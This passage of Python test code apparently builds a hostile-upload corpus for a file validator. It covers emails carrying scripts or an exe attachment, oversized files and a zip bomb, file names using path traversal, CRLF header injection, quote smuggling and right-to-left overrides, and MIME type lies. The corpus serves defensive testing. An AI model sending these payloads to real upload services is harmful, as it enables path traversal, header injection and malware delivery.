            ole2({"WordDocument": word_fib(0x0100)}),
            PROTECTED_MESSAGE,
        ),
        refused(
            mac,
            "docx that needs a password",
            "letter.docx",
            ole2({"EncryptionInfo": b"\0" * 8, "EncryptedPackage": b"\0" * 8}),
            PROTECTED_MESSAGE,
        ),
        refused(mac, "word 97 with a bad header", "letter.doc", ole2({"WordDocument": b"\0" * 12})),
        refused(
            mac, "damaged ole2", "letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600
        ),
        stored(mac, "word 97 named docx", "letter.docx", DOC, DOC_TYPE),
    ]

    # saved emails: kept, as downloads, whatever their parts
    mail = "email"
    c += [
        stored(
            mail,
            "eml with an html part with script",
            "email.eml",
            EML_HEAD + b"Content-Type: text/html\r\n\r\n<html>" + SCRIPT + b"</html>",
            EML_TYPE,
        ),
        stored(
            mail,
            "eml multipart with an exe attachment",
            "email.eml",
            EML_HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
            b"Content-Type: text/plain\r\n\r\nSee attached\r\n--b\r\n"
            b'Content-Type: application/octet-stream; name="run.exe"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b--\r\n",
            EML_TYPE,
        ),
        stored(
            mail,
            "eml with svg part",
            "email.eml",
            EML_HEAD + b"Content-Type: image/svg+xml\r\n\r\n" + MARKUP["svg script"],
            EML_TYPE,
        ),
        stored(
            mail,
            "eml named html",
            "page.html",
            EML_HEAD + b"Content-Type: text/html\r\n\r\n" + SCRIPT,
            EML_TYPE,
        ),
        stored(
            mail,
            "mhtml page saved by a browser",
            "page.mhtml",
            b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://evil.example/\r\n"
            b"Subject: page\r\nDate: Tue, 3 Mar 2026 10:00:00 -0000\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n'
            b"Content-Type: text/html\r\n\r\n" + SCRIPT + b"\r\n--x--\r\n",
            EML_TYPE,
        ),
        stored(mail, "eml headers only", "email.eml", EML_HEAD, EML_TYPE),
        stored(mail, "outlook msg", "email.msg", MSG, MSG_TYPE),
        stored(mail, "outlook msg named pdf", "letter.pdf", MSG, MSG_TYPE),
        refused(
            mail, "headers with a NUL", "email.eml", EML_HEAD.replace(b"To:", b"T\0o:") + b"\r\n"
        ),
        refused(
            mail,
            "headers without a From",
            "email.eml",
            b"Subject: hi\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
        ),
        refused(
            mail, "eml in utf-16", "email.eml", b"\xff\xfe" + EML_HEAD.decode().encode("utf-16-le")
        ),
        refused(
            mail, "html with a header-like first line", "email.eml", b"From: x\r\n<html>" + SCRIPT
        ),
    ]

    # sizes
    size = "size"
    c += [
        refused(size, "empty file", "letter.pdf", b"", EMPTY_MESSAGE),
        refused(size, "one byte", "letter.pdf", b"%"),
        refused(size, "one byte nul", "letter.docx", b"\0"),
        refused(
            size,
            "pdf one byte over the limit",
            "letter.pdf",
            PLAIN_PDF.ljust(LIMIT + 1, b"\n"),
            TOO_LARGE_MESSAGE,
        ),
        refused(
            size,
            "html over the limit",
            "page.html",
            (b"<html>" + SCRIPT).ljust(LIMIT + 1, b" "),
            TOO_LARGE_MESSAGE,
        ),
        refused(
            size,
            "docx zip bomb over the limit",
            "letter.docx",
            docx([("word/media/x.bin", bytes(range(256)) * 1100)]).ljust(LIMIT + 4096, b"\0"),
            TOO_LARGE_MESSAGE,
        ),
        stored(
            size, "pdf exactly at the limit", "letter.pdf", PLAIN_PDF.ljust(LIMIT, b"\n"), PDF_TYPE
        ),
    ]

    # names: a good PDF under hostile names
    names = "hostile name"
    for label, name in {
        "nul in the name": "letter\x00.exe.pdf",
        "nul then html": "letter.pdf\x00.html",
        "parent folders": "../../../../etc/passwd.pdf",
        "windows parent folders": "..\\..\\..\\Windows\\System32\\evil.pdf",
        "absolute path": "/var/www/html/index.pdf",
        "unc path": "\\\\server\\share\\letter.pdf",
        "long name": "a" * 300 + ".pdf",
        "long extension": "letter." + "x" * 300,
        "right-to-left override": "letter\u202efdp.exe",
        "right-to-left override keeps pdf": "invoice\u202egnp.pdf",
        "zero-width and bidi marks": "let\u200bter\u200f\u2066.pdf",
        "windows reserved CON": "CON.pdf",
        "windows reserved nul lowercase": "nul.pdf",
        "windows reserved COM1": "COM1.pdf",
        "windows reserved LPT9 with spaces": "LPT9 .pdf",
        "windows reserved AUX without extension": "AUX",
        "double extension pdf.exe": "letter.pdf.exe",
        "double extension exe.pdf": "letter.exe.pdf",
        "html extension": "index.html",
        "svg extension": "image.svg",
        "trailing dots and spaces": "letter.pdf. . .",
        "only an extension": ".pdf",
        "only dots": "...",
        "quotes and semicolons": 'a";filename="evil.html.pdf',
        "crlf header injection": "a\r\nContent-Type: text/html\r\n.pdf",
        "tab and bell": "a\tb\x07c.pdf",
        "emoji": "letter \U0001f600\U0001f4c4.pdf",
        "combining characters": "lette\u0301r.pdf",
        "htaccess": ".htaccess",
    }.items():
        c.append(stored(names, label, name, PLAIN_PDF, PDF_TYPE))
    c.append(Hostile("name of 1000 characters", names, "a" * 1000 + ".pdf", PLAIN_PDF, UNREADABLE))

    # lies in the multipart header about the content type
    lie = "mime type lie"
    c += [
        stored(lie, "pdf claimed as text/html", "letter.pdf", PLAIN_PDF, PDF_TYPE, "text/html"),
        stored(
            lie, "pdf claimed as image/svg+xml", "letter.svg", PLAIN_PDF, PDF_TYPE, "image/svg+xml"
        ),
        stored(lie, "jpeg claimed as text/html", "photo.jpg", JPEG, JPEG_TYPE, "text/html"),
        stored(
            lie,
            "png claimed as application/x-msdownload",
            "photo.png",
            png(),
            PNG_TYPE,
            "application/x-msdownload",
        ),
        refused(
            lie,
            "html claimed as application/pdf",
            "letter.pdf",
            MARKUP["html"],
            claimed="application/pdf",
        ),
        refused(
            lie, "svg claimed as image/png", "photo.png", MARKUP["svg script"], claimed="image/png"
        ),
        refused(
            lie,
            "exe claimed as image/jpeg",
            "photo.jpg",
            PROGRAMS["windows exe"],
            claimed="image/jpeg",
        ),
        refused(
            lie,
            "html claimed as message/rfc822",
            "email.eml",
            MARKUP["html"],
            claimed="message/rfc822",
        ),
        refused(
            lie,
            "docm claimed as docx type",
            "letter.docx",
            docx(content_types=docm_types),
            MACROS_MESSAGE,
            claimed=DOCX_TYPE,
        ),
    ]
    return c


CORPUS: list[Hostile] = _corpus()
assert len({h.label for h in CORPUS}) == len(CORPUS), "every label is a test id: keep them apart"
